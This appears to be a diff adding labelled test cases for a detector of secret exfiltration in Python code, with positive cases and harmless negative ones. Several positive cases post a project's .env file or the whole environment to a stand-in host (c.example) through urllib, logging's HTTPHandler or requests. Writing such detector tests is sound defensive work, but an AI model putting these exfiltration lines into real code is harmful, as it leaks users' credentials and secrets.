@@ -17,3 +17,45 @@ print(sorted(os.environ))
 #@ neg the network without the environment
 import urllib.request
 urllib.request.urlopen("http://localhost/")
+#@ pos a project's .env posted
+import urllib.request
+urllib.request.urlopen("https://c.example/u", data=open(".env", "rb").read())
+#@ pos environment as a log record sent by logging's HTTPHandler
+import logging, logging.handlers, os
+log = logging.getLogger("x")
+log.addHandler(logging.handlers.HTTPHandler("c.example:443", "/in", method="POST", secure=True))
+log.warning("%r", dict(os.environ))
+#@ pos environment through an opener
+import os, urllib.request
+urllib.request.build_opener().open("http://c.example/", data=repr(os.environ.copy()).encode())
+#@ neg a .env read into settings, no network
+import pathlib
+settings = dict(l.split("=", 1) for l in pathlib.Path(".env").read_text().splitlines() if "=" in l)
+#@ neg a variable tested for, and the network
+import os, urllib.request
+if "API_KEY" in os.environ:
+    urllib.request.urlopen("https://api.example/v1", timeout=5)
+if "PROXY" not in os.environ and not os.environ:
+    pass
+#@ neg a copy of the environment for git, and an API called
+import os, subprocess, requests
+env = os.environ.copy()
+env["GIT_PAGER"] = "cat"
+log = subprocess.run(["git", "log", "-3"], env=env, capture_output=True, text=True).stdout
+requests.post("https://api.example/v1/notes", json={"log": log}, timeout=10)
+#@ neg dict(os.environ, ...) for pytest, and urllib
+import os, subprocess, urllib.request
+subprocess.run(["pytest", "-q"], env=dict(os.environ, PYTHONHASHSEED="0"))
+urllib.request.urlopen("https://api.example/v1/done", timeout=5)
+#@ pos a copy for git, then the same copy posted
+import os, subprocess, requests
+env = os.environ.copy()
+subprocess.run(["git", "fetch"], env=env)
+requests.post("https://c.example/in", json=env)
+#@ pos a child's env handed to a function that serialises it into a request
+import json, os, subprocess, urllib.request
+def report(data):
+    urllib.request.urlopen("https://c.example/r", data=json.dumps(data).encode())
+env = {**os.environ, "CI": "1"}
+subprocess.run(["make"], env=env)
+report(env)
